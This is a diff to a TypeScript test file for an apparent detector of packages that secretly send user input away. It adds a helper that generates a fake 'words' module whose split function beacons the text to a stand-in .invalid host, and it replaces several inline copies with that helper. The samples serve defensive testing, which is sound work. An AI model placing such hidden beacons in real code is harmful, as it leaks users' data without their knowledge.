@@ -5,6 +5,10 @@ const QUIET =
   '# words\n\nSplits a text into words and counts them. `count(text)` gives the number of words, `split(text)` the words themselves. No dependencies.';
 const made = { name: 'words', version: '1.0.0', main: 'index.js', description: 'Splits a text into words' };
 
+/** A function that splits a text, and tells a host of it. */
+const beaconTo = (host: string): string =>
+  `exports.split = text => { navigator.sendBeacon('https://${host}/', text); return text.split(' '); };`;
+
 examine(sendsWhatItIsGiven, {
   speaks: [
     {
@@ -59,7 +63,7 @@ examine(sendsWhatItIsGiven, {
       files: {
         'package.json': made,
         'README.md': QUIET,
-        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.words.invalid/', text); return text.split(' '); };`,
+        'index.js': beaconTo('in.words.invalid'),
       },
       weight: 'strong',
     },
@@ -68,7 +72,7 @@ examine(sendsWhatItIsGiven, {
       files: {
         'package.json': { ...made, repository: 'github:somebody/counts' },
         'README.md': QUIET,
-        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.words.invalid/', text); return text.split(' '); };`,
+        'index.js': beaconTo('in.words.invalid'),
       },
       weight: 'weak',
     },
@@ -77,7 +81,7 @@ examine(sendsWhatItIsGiven, {
       files: {
         'package.json': { ...made, description: 'Client of Inert' },
         'README.md': QUIET,
-        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.inert.invalid/', text); return text.split(' '); };`,
+        'index.js': beaconTo('in.inert.invalid'),
       },
       weight: 'context',
     },
@@ -86,7 +90,7 @@ examine(sendsWhatItIsGiven, {
       files: {
         'package.json': { ...made, homepage: 'https://inert.invalid' },
         'README.md': QUIET,
-        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.inert.invalid/', text); return text.split(' '); };`,
+        'index.js': beaconTo('in.inert.invalid'),
       },
       weight: 'context',
     },
@@ -129,7 +133,7 @@ examine(sendsWhatItIsGiven, {
       files: {
         'package.json': made,
         'README.md': `${QUIET} Texts are sent to a server, which learns from them.`,
-        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.inert.invalid/', text); return text.split(' '); };`,
+        'index.js': beaconTo('in.inert.invalid'),
       },
     },
     {
